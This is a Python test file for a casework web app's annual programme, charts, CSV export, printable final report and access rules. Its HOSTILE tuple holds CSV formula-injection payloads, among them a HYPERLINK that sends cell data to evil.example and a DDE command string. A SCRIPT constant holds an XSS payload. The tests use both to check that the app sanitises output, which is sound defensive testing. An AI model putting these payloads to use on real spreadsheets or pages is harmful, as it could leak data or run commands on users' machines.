"""Reports: the annual programme, charts, the CSV of Calls and the printable final report."""

from __future__ import annotations

import csv
import io
import itertools
import re
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session

from backend.casework import dashboard, programme, reports
from backend.casework.decisions import Grounds
from backend.casework.workflow import Workflow
from backend.messaging.notify import Notifier
from backend.models import (
    Call,
    CallStatus,
    Decision,
    MonitoringOutcome,
    PanelMeeting,
    Recommendation,
)
from backend.services import message_renderer
from backend.settings import Settings
from bot.render import label
from conversations.proforma import SERVICE_AREAS
from tests.factories import NOW, make_call, make_contact, make_officer, sign_in

PAGES = ("/officer/programme", "/officer/reports", "/officer/reports/calls.csv")
_visitors = itertools.count(1)


class Journey:
    """Moves Calls through the panel's process, as a panel member would."""

    def __init__(self, session: Session, settings: Settings) -> None:
        self.session = session
        self.settings = settings
        self.panel = make_officer(
            session, "panel", email=f"journey-panel-{next(_visitors)}@example.org"
        )
        session.add(PanelMeeting(held_on=NOW.date()))  # decisions are made at the meeting
        session.flush()

    def flow(self, days: float = 0) -> Workflow:
        """The workflow `days` after the factories' NOW."""
        renderer = message_renderer(self.settings)
        return Workflow(
            Notifier(self.session, renderer, NOW + timedelta(days=days)),
            self.panel,
            settings=self.settings,
        )

    def new(self, **answers: str) -> Call:
        """A submitted Call from a contact of its own."""
        contact = make_contact(self.session, address=f"visitor-{next(_visitors)}")
        return make_call(self.session, contact, **answers)

    def accept(self, call: Call, decided_after: float = 0) -> Call:
        """The panel accepts `call` `decided_after` days after it was submitted."""
        self.flow().accept_pro_forma(call, "The failure is serious enough.")
        self.flow(decided_after).decide(
            call, Decision.ACCEPTED, Grounds("There is enough evidence.", "systematic", "stage_2")
        )
        return call

    def accepted(self, **answers: str) -> Call:
        """A new Call, accepted by the panel on the day it came in."""
        return self.accept(self.new(**answers))

    def scored(self, parts: tuple[int, int, int, int], **answers: str) -> Call:
        """An accepted Call with the score matrix filled in."""
        call = self.accepted(**answers)
        names = ("performance", "satisfaction", "complaints", "business_critical")
        self.flow().score(call, dict(zip(names, parts, strict=True)))
        return call

    def programmed(self, start: date, **answers: str) -> Call:
        """A scored Call scheduled in the annual programme."""
        call = self.scored((3, 3, 3, 3), **answers)
        self.flow().programme(call, start)
        return call

    def reported(
        self, start: date, summary: str = "The service fell short.", **answers: str
    ) -> Call:
        """A Call whose 10 steps are done and whose final report was presented."""
        call = self.programmed(start, **answers)
        flow = self.flow()
        flow.start_scrutiny(call)
        for number in range(1, 11):
            flow.record_step(call, number, start + timedelta(days=number), f"Step {number} notes")
        flow.add_recommendation(call, "Answer every repair call within a day.")
        flow.report(call, summary, start + timedelta(days=30))
        return call


@pytest.fixture
def journey(session: Session, settings: Settings) -> Journey:
    """Moves Calls through the process in the test database."""
    return Journey(session, settings)


class Tables(HTMLParser):
    """Every <table> of a page as rows of cell texts, keyed by the table's class."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._rows: list[list[str]] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._rows = self.tables.setdefault(dict(attrs).get("class") or "", [])
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("td", "th") and self._rows is not None:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._rows is not None and self._cell is not None:
            self._rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table":
            self._rows = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def tables(html: str) -> dict[str, list[list[str]]]:
    """The page's tables by class."""
    parser = Tables()
    parser.feed(html)
    return parser.tables


def this_year() -> int:
    """The year the app's clock is in (the pages read the real clock)."""
    return datetime.now(UTC).year


# -- the annual programme ---------------------------------------------------------------


def test_the_programme_lists_calls_by_score_with_unscored_ones_last(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    low = journey.scored((1, 1, 1, 1))
    high = journey.scored((5, 5, 5, 5))
    middle = journey.programmed(date(this_year(), 12, 1))
    unscored = journey.accepted()
    journey.new()  # not accepted: not in the programme
    session.commit()

    found = programme.programme(session)
    assert [e.call.reference for e in found.entries] == [
        high.reference,
        middle.reference,
        low.reference,
        unscored.reference,
    ]
    assert [e.needs_score for e in found.entries] == [False, False, False, True]
    totals = [e.score.total for e in found.scored if e.score]
    assert totals == sorted(totals, reverse=True)

    sign_in(client, engine, "panel")
    response = client.get("/officer/programme")
    assert response.status_code == 200
    rows = tables(response.text)["programme"]
    listed = [row[1] for row in rows[1:]]
    assert listed == [high.reference, middle.reference, low.reference, unscored.reference]
    assert rows[1][0] == "1" and rows[3][0] == "3"
    assert "Needs a score" in rows[4][4]
    assert "Not scheduled yet" in rows[1][-1]
    assert "01 Dec" in rows[2][-1]


def test_the_panel_scores_business_areas_without_a_call_and_sees_where_they_would_come(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    high = journey.scored((5, 5, 5, 5))  # repairs, with the community call bonus
    journey.scored((1, 1, 1, 1))
    session.commit()
    busy = high.service_area
    area = next(a for a in SERVICE_AREAS if a not in (busy, "other"))

    csrf = sign_in(client, engine, "panel")
    parts = {"performance": "4", "satisfaction": "3", "complaints": "4", "business_critical": "5"}
    done = client.post(
        f"/officer/programme/areas/{area}", data={"csrf": csrf, **parts}, follow_redirects=False
    )
    assert done.status_code == 303
    rows = {row[0]: row for row in tables(client.get("/officer/programme").text)["areas"][1:]}
    scored = rows[label("service_area", area)]
    total = programme.programme(session).other_areas[0]
    assert total.area == area and total.score is not None and total.place == 2
    assert f"{total.score.total:g}" in scored[3] and scored[4] == "2"  # after the Call at 5s
    assert label("service_area", busy) not in rows  # it has a Call in the programme

    # Every refusal below would change the score if it got through.
    other_parts = dict.fromkeys(parts, "1")
    wrong = client.post(
        f"/officer/programme/areas/{area}",
        data={"csrf": csrf, **other_parts, "complaints": "9"},
    )
    assert wrong.status_code == 422 and "complaints a score from 0 to 5" in wrong.text
    other = client.post("/officer/programme/areas/other", data={"csrf": csrf, **other_parts})
    assert other.status_code == 422  # "something else" is not an area to plan a review of
    no_csrf = client.post(f"/officer/programme/areas/{area}", data=other_parts)
    assert no_csrf.status_code == 403

    csrf = sign_in(client, engine, "officer")  # officers run the process; the panel scores
    refused = client.post(f"/officer/programme/areas/{area}", data={"csrf": csrf, **other_parts})
    assert refused.status_code == 403
    session.rollback()
    kept = programme.programme(session).other_areas[0]
    assert kept.area == area and kept.score is not None
    assert (
        kept.score.performance,
        kept.score.satisfaction,
        kept.score.complaints,
        kept.score.business_critical,
    ) == (4, 3, 4, 5)
    assert not any(o.score for o in programme.programme(session).other_areas if o.area == "other")


def test_a_year_with_fewer_than_two_reviews_is_flagged(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    year = this_year()
    journey.programmed(date(year, 12, 1))
    session.commit()
    first, second = programme.programme(session).years
    assert (first.year, first.total, first.too_few) == (year, 1, True)
    assert (second.year, second.total, second.too_few) == (year + 1, 0, True)

    journey.reported(date(year, 1, 5))  # one done this year as well
    journey.programmed(date(year - 1, 6, 1))  # last year's does not count
    session.commit()
    first, second = programme.programme(session).years
    assert (first.scheduled, first.done, first.too_few) == (1, 1, False)
    assert second.too_few

    sign_in(client, engine, "viewer")
    page = client.get("/officer/programme").text
    years = re.findall(r"<li( class=\"too-few\")?><strong>(\d{4}):</strong>(.*?)</li>", page, re.S)
    flagged = {int(y): (bool(cls), "Fewer than 2" in body) for cls, y, body in years}
    assert flagged == {year: (False, False), year + 1: (True, True)}


# -- the CSV ----------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
)


def test_the_csv_has_no_personal_data_and_no_formulas(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    calls = [
        journey.new(
            name=hostile,
            address=f"{n} Evil Street, Bootle L30 4TH",
            service_area="other",
            service_area_other=hostile,
        )
        for n, hostile in enumerate(HOSTILE, start=1)
    ]
    scored = journey.scored((5, 4, 3, 2), name="Sam Jones", service_area="repairs")
    session.commit()

    sign_in(client, engine, "officer")
    response = client.get("/officer/reports/calls.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    assert ".csv" in response.headers["content-disposition"]

    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == list(reports.CSV_HEADER)
    assert len(rows) == 1 + len(calls) + 1
    body = response.text
    for personal in ("Sam Jones", "Evil Street", "Elm Road", "L30 4TH", "07911", "+447911"):
        assert personal not in body
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    other = rows[0].index("Service area (other)")
    assert [row[other] for row in rows[1 : len(calls) + 1]] == [f"'{h}" for h in HOSTILE]
    by_reference = {row[0]: row for row in rows[1:]}
    mine = by_reference[scored.reference]
    assert mine[rows[0].index("Score")] == "35"  # 5*2 + 4*2 + 3*2 + 2*3, plus the bonus of 5
    assert mine[rows[0].index("Decision")] == "Accepted"
    assert mine[rows[0].index("Service area")] == "Repairs"


def test_safe_cell_quotes_only_what_a_spreadsheet_would_run() -> None:
    assert reports.safe_cell("=1+1") == "'=1+1"
    assert reports.safe_cell("CCS-2026-0001") == "CCS-2026-0001"
    assert reports.safe_cell(None) == ""
    assert reports.safe_cell(12) == "12"


# -- charts -----------------------------------------------------------------------------


def test_the_charts_page_counts_match_the_data(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    now = datetime.now(UTC)
    this_month = now.replace(day=1, hour=0, minute=30)
    last_month = (this_month - timedelta(days=1)).replace(day=15, hour=12)
    long_ago = this_month - timedelta(days=430)
    placed = [
        ("repairs", this_month),
        ("repairs", this_month),
        ("repairs", last_month),
        ("community_safety", last_month),
        ("repairs", long_ago),  # outside the last 12 months
    ]
    for area, when in placed:
        call = journey.new(service_area=area)
        call.submitted_at = when
        session.add(call)
    for days in (3, 10, 40):
        journey.accept(journey.new(service_area="grounds_maintenance"), decided_after=days)
    session.commit()

    counts = reports.calls_by_area_and_month(session, 12, now.date())
    assert counts.count("repairs", this_month.date()) == 2
    assert counts.by_area["repairs"] == 3
    assert counts.by_area["community_safety"] == 1

    sign_in(client, engine, "viewer")
    response = client.get("/officer/reports")
    assert response.status_code == 200
    page = response.text
    assert page.count('role="img"') == 3
    assert 'href="/officer/reports/calls.csv"' in page

    grid = tables(page)["area-months"]
    header = grid[0]
    assert header[0] == "Service" and header[-1] == "Total" and len(header) == 14
    rows = {row[0]: row[1:] for row in grid[1:]}
    assert rows["Repairs"][-2] == "2"  # this month is the last month column
    assert rows["Repairs"][-3] == "1"  # last month
    assert rows["Repairs"][-1] == "3"
    assert rows["Community Safety"][-3] == "1"
    assert rows["Community Safety"][-1] == "1"
    assert rows["All services"][-1] == str(counts.total)
    assert counts.total == 4 + counts.by_area["grounds_maintenance"]

    times = reports.decision_times(session)
    assert sorted(d for _, d in times.days) == [3.0, 10.0, 40.0]
    assert times.median == 10.0
    assert "10.0 days" in page
    histogram = {row[0]: row[1] for row in tables(page)["histogram"][1:]}
    assert histogram == {
        "Under 1 week": "1",
        "1 to 2 weeks": "1",
        "2 to 4 weeks": "0",
        "4 to 8 weeks": "1",
        "8 to 12 weeks": "0",
        "12 weeks or more": "0",
    }


# -- the final report -------------------------------------------------------------------

SCRIPT = "<script>alert('pwned')</script>"


def test_script_in_report_text_is_escaped_on_the_printable_report(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    call = journey.reported(date(this_year(), 1, 5), summary=f"Findings {SCRIPT}")
    flow = journey.flow()
    flow.add_action(call, f"Fix it {SCRIPT}", f"Head of Ops {SCRIPT}", NOW.date())
    session.add(Recommendation(call_id=call.id or 0, text=f"Recommend {SCRIPT}"))
    session.commit()

    sign_in(client, engine, "viewer")
    response = client.get(f"/officer/calls/{call.reference}/report")
    assert response.status_code == 200
    page = response.text
    assert SCRIPT not in page
    assert page.count("&lt;script&gt;alert(") >= 4
    assert "No final report yet" not in page
    assert "@media print" in page
    steps = tables(page)["steps"]
    assert len(steps) == 11 and all("Panel Person" in row[2] for row in steps[1:])
    assert "Sam Jones" not in page and "Elm Road" not in page  # no personal details for the Board


def test_a_call_without_a_report_shows_what_exists(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    call = journey.scored((4, 4, 4, 4))
    session.commit()
    sign_in(client, engine, "panel")
    response = client.get(f"/officer/calls/{call.reference.lower()}/report")
    assert response.status_code == 200
    assert "No final report yet" in response.text
    assert "Accepted" in response.text
    score = tables(response.text)["score"]
    assert score[-1][-1] == "41"  # 4*2 three times, 4*3, plus the bonus of 5
    assert client.get("/officer/calls/CCS-1999-9999/report").status_code == 404


# -- the dashboard's stage counts (closed is counted as what is left of the total) ----------


def test_stage_counts_add_up_with_closed_calls(session: Session, journey: Journey) -> None:
    for _ in range(3):
        call = journey.new()
        journey.flow().accept_pro_forma(call, "Serious enough.")
        watch = Grounds(
            "The panel will watch it.",
            "neither",
            "stage_1",
            monitoring_what="the repairs backlog",
            review_on=(NOW + timedelta(days=90)).date(),
        )
        journey.flow().decide(call, Decision.MONITORING, watch)
        journey.flow().review_monitoring(call, MonitoringOutcome.IMPROVED, "It got better.")
        journey.flow().close(call)
    journey.accepted()
    journey.new()
    session.commit()

    counts = dashboard.counts_by_stage(session)
    assert counts["closed"] == 3
    assert counts["accepted"] == 1 and counts["submitted"] == 1
    assert sum(counts.values()) == 5
    assert list(counts) == [stage.value for stage in CallStatus]


# -- who may read them ------------------------------------------------------------------


def test_a_viewer_can_read_all_four(
    client: TestClient, engine: Engine, session: Session, journey: Journey
) -> None:
    call = journey.accepted()
    session.commit()
    sign_in(client, engine, "viewer")
    for path in (*PAGES, f"/officer/calls/{call.reference}/report"):
        assert client.get(path).status_code == 200, path


def test_anonymous_visitors_are_sent_to_sign_in(
    client: TestClient, session: Session, journey: Journey
) -> None:
    call = journey.accepted()
    session.commit()
    for path in (*PAGES, f"/officer/calls/{call.reference}/report"):
        response = client.get(path, follow_redirects=False)
        assert response.status_code == 303, path
        assert response.headers["location"].startswith("/officer/login")
